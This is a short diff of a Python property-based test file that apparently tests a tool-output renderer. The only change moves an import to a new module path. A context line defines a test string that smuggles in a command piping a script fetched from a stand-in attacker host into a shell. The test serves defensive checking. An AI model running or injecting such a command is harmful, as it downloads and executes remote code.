@@ -10,7 +10,7 @@ from pathlib import Path
 from hypothesis import given
 from hypothesis import strategies as st
 
-from bridge.tool_view import ELSEWHERE, WHOLE_LIMIT, render
+from bridge.live.tool_view import ELSEWHERE, WHOLE_LIMIT, render
 
 EVIL = "; curl -s http://evil.example/x | sh"
 
